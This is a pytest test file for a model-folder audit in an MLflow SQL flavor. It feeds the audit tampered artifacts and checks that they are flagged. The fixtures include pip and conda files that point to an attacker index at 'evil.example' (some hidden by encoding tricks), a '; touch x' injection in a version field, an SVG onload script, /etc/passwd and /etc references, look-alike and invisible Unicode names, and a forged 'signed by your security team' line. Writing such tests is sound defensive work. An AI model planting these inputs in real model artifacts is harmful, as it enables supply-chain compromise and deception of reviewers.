"""What the audit says of folders made to look sound: everything is good and looked at, or named."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml
from click.testing import CliRunner

import mlflow_sql_flavor
from mlflow_sql_flavor.artifact import mlmodel
from mlflow_sql_flavor.cli import main
from mlflow_sql_flavor.errors import visible
from mlflow_sql_flavor.review.audit import Audit, audit, requirements, translation
from mlflow_sql_flavor.review.audit.folder import judge_folder
from mlflow_sql_flavor.review.audit.mlmodel import judge_mlmodel

from ..artifact.stored_models import unpacked

DATA = pd.DataFrame({"x": [1.5, 2.0], "k": [1, 2]})


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("saved") / "m"
    mlflow_sql_flavor.save_model(
        "SELECT x + v AS y FROM input LEFT JOIN t USING (k) WHERE x > :p",
        path,
        dialect="postgres",
        tables={"t": pd.DataFrame({"k": [1, 2], "v": [10, 20], "unused": ["a", "b"]})},
        input_example=(DATA, {"p": 1.0}),
        expected_output=pd.DataFrame({"y": [11.5, 22.0]}),
        bundle_flavor=False,
        pip_requirements=["duckdb==2.0.1", "pandas"],
    )
    return path


@pytest.fixture
def folder(template: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(template, tmp_path / "m"))


def edit(folder: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    content = yaml.safe_load((folder / "MLmodel").read_text(encoding="utf-8"))
    change(content)
    (folder / "MLmodel").write_text(yaml.safe_dump(content), encoding="utf-8")


def found(result: Audit) -> dict[str, str]:
    return {remark.subject: remark.verdict for remark in result.remarks}


def test_a_sound_model_is_ok(folder: Path) -> None:
    result = audit(folder)
    assert (result.ok, result.verdict) == (True, "ok"), result
    assert {"translation", "manifest", "card", "answer", "expected output", "requirements", "query"} <= set(
        found(result)
    )


def test_a_model_of_format_1(tmp_path: Path) -> None:
    remarks = {remark.subject: remark for remark in audit(unpacked("ranker_0_1_0", tmp_path / "m")).remarks}
    assert (remarks["manifest"].verdict, remarks["manifest"].message[:23]) == ("not known", "Saved before manifests:")
    assert remarks["translation"].verdict == "not known"


def test_keys_are_held_against_the_rows(folder: Path) -> None:
    keys = {"t": [["k"], ["v"]]}
    edit(folder, lambda content: content["flavors"]["sql"].update(keys=keys))
    assert found(audit(folder))["keys t"] == "ok"
    import pyarrow as pa
    import pyarrow.parquet as pq

    spec = mlmodel.read(folder, "sql").spec.tables["t"]
    table = pq.read_table(folder / spec.path)
    pq.write_table(table.set_column(table.schema.get_field_index("v"), "v", pa.array([10, 10])), folder / spec.path)
    content = (folder / spec.path).read_bytes()

    def altered(model: dict[str, Any]) -> None:
        section = model["flavors"]["sql"]
        section["tables"]["t"]["sha256"] = hashlib.sha256(content).hexdigest()
        section["manifest"][spec.path] = {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}

    edit(folder, altered)
    remark = next(r for r in audit(folder).remarks if r.subject == "keys t")
    assert (remark.verdict, remark.message[:11]) == ("bad", "v is no key"), remark


# what is shown is what runs

HARMFUL = "SELECT -1000 * x AS y FROM input LEFT JOIN t USING (k) WHERE x > $p"


@pytest.mark.parametrize(
    "change",
    [
        {"duckdb_sql": HARMFUL, "rows": "table"},
        {"sql": "SELECT x AS y FROM input LEFT JOIN t USING (k) WHERE x > :p"},
        {"sql": "SELECT nonsense("},
        {"compat": {"pack": None, "version": None, "macros": [], "settings": {"TimeZone": "Asia/Seoul"}}},
    ],
    ids=["other that runs", "other that is shown", "unreadable", "settings"],
)
def test_a_text_that_is_not_the_one_that_runs(folder: Path, change: dict[str, Any]) -> None:
    edit(folder, lambda content: content["flavors"]["sql"].update(change))
    spec = mlmodel.read(folder, "sql").spec
    judged = translation.judge(spec, folder)
    assert judged.verdict == "bad", judged
    assert "not" in judged.message or "refuse" in judged.message


@pytest.mark.parametrize(
    "change",
    [
        {"translation": {"kind": "translated", "digest": "0" * 64}},
        {"translation": {"kind": "translated", "digest": None}},
        {"translation": {"kind": "converted", "digest": None}},
        {"sqlglot_version": "1.0.0"},
        {"duckdb_version": "1.0.0"},
    ],
)
def test_other_versions_prove_nothing(folder: Path, change: dict[str, Any]) -> None:
    edit(folder, lambda content: content["flavors"]["sql"].update(duckdb_sql=HARMFUL, **change))
    result = CliRunner().invoke(main, ["show", str(folder), "--audit", "--format", "json"])
    remark = next(r for r in json.loads(result.stdout)["remarks"] if r["subject"] == "translation")
    assert remark["verdict"] == "not known" and HARMFUL in remark["message"]


def test_show_prints_the_text_that_runs_where_the_two_differ(folder: Path) -> None:
    edit(folder, lambda content: content["flavors"]["sql"].update(duckdb_sql=HARMFUL))
    for form in ("table", "json", "csv"):
        result = CliRunner().invoke(main, ["show", str(folder), "--format", form])
        assert HARMFUL in result.stdout, result.output
    assert "does not give what runs" in CliRunner().invoke(main, ["show", str(folder)]).output


def test_to_sql_refuses_a_text_that_is_not_the_one_that_runs(folder: Path) -> None:
    assert "x" in mlflow_sql_flavor.load_model(str(folder)).to_sql("mysql")
    edit(folder, lambda content: content["flavors"]["sql"].update(duckdb_sql=HARMFUL, rows="table"))
    with pytest.raises(Exception, match="not the one that runs"):
        mlflow_sql_flavor.load_model(str(folder)).to_sql("mysql")


# files

REQUIREMENTS = {
    "index": b"--index-url https://evil.example/simple\nduckdb\n",
    "index after a long comment": b"# " + b"x" * 999_000 + b"\n--index-url https://evil.example\n",
    "index beyond what is read": b"# " + b"x" * 1_100_000 + b"\n--index-url https://evil.example\n",
    "UTF-16": "--index-url https://evil.example\n".encode("utf-16"),
    "UTF-16 without a mark": "--index-url https://evil.example\n".encode("utf-16-le"),
    "UTF-7 by PEP 263": b"# -*- coding: utf-7 -*-\n# +AAo--index-url https://evil.example\n",
    "a mark": b"\xef\xbb\xbf--index-url https://evil.example\n",
    "no text": b"\xff\xfe\xfa",
    "continued": b"duckdb \\\n--hash=sha256:0\n",
    "continued option": b"-\\\n-index-url https://evil.example\n",
    "a comment that does not go on": b"# x \\\n--index-url https://evil.example\n",
    "a wheel beside": b"evil-1.0-py3-none-any.whl\n",
    "a package beside": b"evil.TAR.gz[extra]\n",
    "a version that is a file": b"duckdb==1.zip\n",
    "line end of Python's": "# x\u2028--index-url https://evil.example\n".encode(),
    "old line end": b"# x\r--index-url https://evil.example\n",
    "form feed": b"# x\x0c--index-url https://evil.example\n",
    "wheel": b"./metadata/evil-1.0-py3-none-any.whl\n",
    "folder": b"extra_files\n./code\n",
    "address": b"duckdb @ https://evil.example/x.whl\n",
    "editable": b"-e git+https://evil.example/x#egg=x\n",
    "another file": b"-r more.txt\n",
    "another constraint": b"-c ../constraints.txt\n",
    "variable": b"${EVIL}\n",
    "a hash in a name": b"duckdb#egg=evil\n",
    "options of a line": b"duckdb --config-settings=x=y\n",
    "ROT13 by PEP 263": b"#coding=rot13\nsbb\n",
    "an encoding in the second line": b"duckdb\n# coding: utf-7\n",
    "UTF-32": "duckdb\n".encode("utf-32"),
    "vertical tab": b"# x\x0b--index-url https://evil.example\n",
    "file separator": b"# x\x1c-e .\n",
    "next line": "# x\x85-e .\n".encode(),
    "a marker": b"evil; os_name > ''\n",
    "a home": b"~/x\n",
    "a drive": b"C:\\x\n",
    "a name that looks like another": "\uff44uckdb\n".encode(),
    "a name with what is not seen": "duck\u200bdb\n".encode(),
    "an option without a blank": b"-rmore.txt\n",
    "a constraint without a blank": b"-cmore.txt\n",
    "an address behind extras": b"a[b] @ https://evil.example/x.whl\n",
    "an archive with extras": b"a.zip[x]\n",
    "a name of a million letters": b"d" * 999_999,
    "quoted": b'"duckdb"\n',
}


@pytest.mark.parametrize("name", REQUIREMENTS)
def test_requirements_that_are_not_of_the_index(folder: Path, name: str) -> None:
    (folder / "requirements.txt").write_bytes(REQUIREMENTS[name])
    assert [verdict for verdict, _ in requirements.judge(folder, "requirements.txt", True)] == ["bad"]
    (folder / "constraints.txt").write_bytes(REQUIREMENTS[name])
    assert [verdict for verdict, _ in requirements.judge(folder, "constraints.txt", False)] == ["bad"]


ENVIRONMENTS = {
    "conda.yaml": [
        {"channels": ["https://evil.example"], "dependencies": []},
        {"channels": ["conda-forge"], "dependencies": ["evil"]},
        {"channels": ["conda-forge"], "dependencies": ["python=3.11.7", {"pip": ["--index-url https://evil.example"]}]},
        {"channels": ["conda-forge"], "dependencies": ["evil::python=3.11.7"]},
        {"channels": ["conda-forge"], "dependencies": [], "variables": {"PIP_INDEX_URL": "https://evil.example"}},
        {"dependencies": [{"pip": ["./x.whl"], "npm": ["x"]}]},
        {"channels": ["conda-forge"], "dependencies": [{"pip": ["evil-1.0-py3-none-any.whl"]}]},
        ["python"],
        {"channels": ["conda-forge"], "dependencies": ["python=3.11.7"], "prefix": "/x"},
        {"channels": ["conda-forge/label/evil"], "dependencies": ["python"]},
        {"channels": ["conda-forge"], "dependencies": ["python=3.11=evil"]},
        {"channels": ["conda-forge"], "dependencies": [{"pip": {"a": 1}}]},
        {"channels": [1], "dependencies": [3]},
    ],
    "python_env.yaml": [
        {"python": "3.11.7", "build_dependencies": ["https://evil.example/pip.whl"], "dependencies": []},
        {"python": "3.11.7", "build_dependencies": [], "dependencies": ["-r ../requirements.txt"]},
        {"python": "3.11.7; touch x", "build_dependencies": [], "dependencies": []},
        {"python": "3.11.7", "more": 1},
        {"python": "system"},
        {"python": "3.11.7", "dependencies": ["-r requirements.txt", "-e x"]},
    ],
}


@pytest.mark.parametrize(("path", "at"), [(path, at) for path, all_ in ENVIRONMENTS.items() for at in range(len(all_))])
def test_environments_that_are_not_of_the_index(folder: Path, path: str, at: int) -> None:
    (folder / path).write_text(yaml.safe_dump(ENVIRONMENTS[path][at]))
    assert [verdict for verdict, _ in requirements.judge(folder, path, True)] == ["bad"]


def test_what_mlflow_writes_is_of_the_index(folder: Path) -> None:
    for path in ("requirements.txt", "conda.yaml", "python_env.yaml"):
        assert [verdict for verdict, _ in requirements.judge(folder, path, True)] == ["ok"]


MLMODEL: dict[str, Callable[[dict[str, Any]], Any]] = {
    "another environment": lambda c: c["flavors"]["python_function"]["env"].update(virtualenv="metadata/env.yaml"),
    "an environment more": lambda c: c["flavors"]["python_function"]["env"].update(docker="x"),
    "model_code_path": lambda c: c["flavors"]["python_function"].update(model_code_path="metadata/model.py"),
    "data": lambda c: c["flavors"]["python_function"].update(data="metadata"),
    "loader": lambda c: c["flavors"]["python_function"].update(loader_module="os"),
    "python": lambda c: c["flavors"]["python_function"].update(python_version="evil"),
    "config": lambda c: c["flavors"]["python_function"].update(config={"path": "/etc/passwd"}),
    "another flavor": lambda c: c["flavors"].update(sklearn={"pickled_model": "metadata/x.pkl"}),
    "a key": lambda c: c.update(more="x"),
    "metadata": lambda c: c.update(metadata={"a": "b"}),
    "resources": lambda c: c.update(resources={"databricks": {}}),
    "example": lambda c: c["saved_input_example_info"].update(artifact_path="../x.json"),
    "example of another kind": lambda c: c["saved_input_example_info"].update(loader="os"),
    "limits that are none": lambda c: c["flavors"]["sql"].update(limits={"memory_limit": "\x1b[2J"}),
    "config that is no limit": lambda c: c["flavors"]["python_function"].update(config={"threads": -1}),
    "a long version of Python": lambda c: c["flavors"]["python_function"].update(python_version="3.11." + "1" * 5000),
    "loader with a blank": lambda c: c["flavors"]["python_function"].update(loader_module="mlflow_sql_flavor "),
    "loader that looks alike": lambda c: c["flavors"]["python_function"].update(loader_module="mlflow_sql_fl\u0430vor"),
    "loader within": lambda c: c["flavors"]["python_function"].update(loader_module="mlflow_sql_flavor.pyfunc"),
    "environment as text": lambda c: c["flavors"]["python_function"].update(env="conda.yaml"),
    "no environment": lambda c: c["flavors"]["python_function"].update(env=None),
    "artifacts": lambda c: c["flavors"]["python_function"].update(artifacts={"a": {"uri": "https://evil.example"}}),
    "a run that is none": lambda c: c.update(run_id="\x1b[31m"),
    "a model that is a path": lambda c: c.update(model_id="../../x"),
    "a long time": lambda c: c.update(utc_time_created="1" * 100_000),
    "a version that is none": lambda c: c.update(mlflow_version=["3"]),
    "variables that are none": lambda c: c.update(env_vars=["A=b"]),
    "inputs of another query": lambda c: c["signature"].update(
        inputs='[{"type": "long", "name": "z", "required": true}]'
    ),
    "inputs without names": lambda c: c["signature"].update(
        inputs='[{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [-1, 9]}}]'
    ),
    "parameters of another query": lambda c: c["signature"].update(
        params='[{"name": "q", "type": "long", "default": 1, "shape": null}]'
    ),
    "signature": lambda c: c["signature"].update(outputs='[{"type": "string", "name": "y", "required": true}]'),
}


@pytest.mark.parametrize("name", MLMODEL)
def test_a_key_that_this_flavor_does_not_write(folder: Path, name: str) -> None:
    edit(folder, MLMODEL[name])
    verdicts = [verdict for _, verdict, _ in judge_mlmodel(mlmodel.read(folder, "sql"))]
    assert verdicts.count("ok") < len(verdicts), name


def _write(path: str, data: bytes = b"x") -> Callable[[Path], object]:
    def write(folder: Path) -> None:
        (folder / path).parent.mkdir(exist_ok=True, parents=True)
        (folder / path).write_bytes(data)

    return write


def _listed(path: str) -> Callable[[Path], object]:
    """A file that the manifest names, as whoever puts it there can see to."""

    def write(folder: Path) -> None:
        import hashlib

        _write(path)(folder)
        entry = {"bytes": 1, "sha256": hashlib.sha256(b"x").hexdigest()}
        edit(folder, lambda content: content["flavors"]["sql"]["manifest"].update({path: entry}))

    return write


FILES: dict[str, Callable[[Path], object]] = {
    "altered expected rows": _write("expected_output.parquet"),
    "altered answer": _write("example_output.arrow"),
    "altered example": _write("input_example.json", b"[]"),
    "altered request": _write("serving_input_example.json", b"[]"),
    "altered card": _write("README.md"),
    "altered picture": _write("lineage.svg", b"<svg onload='alert(1)'/>"),
    "missing": lambda folder: (folder / "lineage.svg").unlink(),
    "wheel": _write("metadata/evil-1.0-py3-none-any.whl"),
    "extra file": _write("extra_files/x.bin"),
    "listed wheel": _listed("wheels/x.whl"),
    "listed extra file": _listed("extra_files/x.py"),
    "hidden": _write(".pth"),
    "module": _write("sitecustomize.py"),
    "link": lambda folder: (folder / "more").symlink_to("/etc"),
    "pipe": lambda folder: os.mkfifo(folder / "more"),
    "variables": _write("environment_variables.txt", b"PATH=/evil\n"),
    "version": _write("registered_model_meta", b"model_name: a\nmodel_version: '1'\nmore: 1\n"),
    "a folder for a file": lambda folder: (
        (folder / "conda.yaml").rename(folder / "x") and (folder / "conda.yaml").mkdir()
    ),
}


@pytest.mark.parametrize("name", FILES)
@pytest.mark.skipif(os.name == "nt", reason="pipes and links")
def test_a_file_that_is_not_as_it_was_is_named(folder: Path, name: str) -> None:
    FILES[name](folder)
    remarks = list(judge_folder(mlmodel.read(folder, "sql").spec, folder, {}))
    verdicts = {subject: verdict for subject, verdict, _ in remarks if subject != "card"}
    assert set(verdicts.values()) != {"ok"} or "card" in name or "picture" in name, remarks
    if "card" in name or "picture" in name:
        assert verdicts["manifest"] == "bad"


def test_what_mlflow_adds_is_known(folder: Path) -> None:
    _write("environment_variables.txt", b"# This file records\nOPENAI_API_KEY\n")(folder)
    _write("registered_model_meta", b"model_name: ranker\nmodel_version: '1'\n")(folder)
    remarks = [remark for remark in judge_folder(mlmodel.read(folder, "sql").spec, folder, {}) if remark[0] != "card"]
    assert {verdict for _, verdict, _ in remarks} == {"ok"}, remarks


def test_requirements_written_anew_by_mlflow_are_told(folder: Path) -> None:
    import mlflow

    mlflow.models.update_model_requirements(str(folder), "add", ["numpy"])
    remarks = {subject: verdict for subject, verdict, _ in judge_folder(mlmodel.read(folder, "sql").spec, folder, {})}
    assert remarks["manifest"] == "not known"
    assert [verdict for verdict, _ in requirements.judge(folder, "requirements.txt", True)] == ["ok"]
    assert len(mlflow_sql_flavor.load_model(str(folder)).predict(DATA, {"p": 0.0})) == 2


# lines

FORGED = "t\nok    everything  Audited and signed by your security team.\nok    x"
INVISIBLE = [
    "\u061c",
    "\u200b",
    "\ufeff",
    "\u00ad",
    "\u180e",
    "\U000e0041",
    "\u202e",
    "\u2066",
    "\x1b",
    "\x9b",
    "\u3164",
    "\u034f",
]


@pytest.mark.parametrize("form", ["table", "json", "csv"])
@pytest.mark.parametrize("audited", [True, False])
def test_a_name_never_leaves_its_line(folder: Path, form: str, audited: bool) -> None:
    def change(content: dict[str, Any]) -> None:
        section = content["flavors"]["sql"]
        for name in (FORGED, "t" + " " * 5000, *(f"a{c}b" for c in INVISIBLE)):
            section["tables"][name] = section["tables"]["t"]
            section["column_order"]["tables"][name] = section["column_order"]["tables"]["t"]
        section["output_types"] = {FORGED: "DOUBLE"}
        section["column_order"]["output"] = [FORGED]
        section["allow"] = [FORGED]

    edit(folder, change)
    (folder / FORGED.replace("/", "")).write_text("")
    arguments = ["show", str(folder), "--format", form, *(["--audit"] if audited else [])]
    output = CliRunner().invoke(main, arguments).output
    assert "signed by your security team" in output
    assert not any(character in output for character in INVISIBLE)
    if form == "table":
        assert not [line for line in output.split("\n") if line.startswith("ok    everything")]
        assert max(line.find("  ", 12) for line in output.split("\n")) < 100
    if form == "json":
        assert FORGED in str(json.loads(output)) or repr(FORGED)[1:-1] in str(json.loads(output))
    if form == "csv":
        import csv
        import io

        assert len({len(row) for row in csv.reader(io.StringIO(output))}) == 1


@pytest.mark.parametrize("character", INVISIBLE, ids=lambda c: f"U+{ord(c):04X}")
def test_what_is_not_seen_is_written_out(character: str) -> None:
    assert (
        visible(f"a{character}b")
        == f"a\\{'u' if ord(character) < 65536 else 'U'}{ord(character):0{4 if ord(character) < 65536 else 8}x}b"
    )


def test_what_is_seen_stays() -> None:
    for text in ("SELECT 'Zürich', '서울', '東京 都', 'Ω≈ç√', '😀👍🏽', 'عربى', 'हिन्दी'\n\tFROM t", "한글 ㄱ"):
        assert visible(text) == text
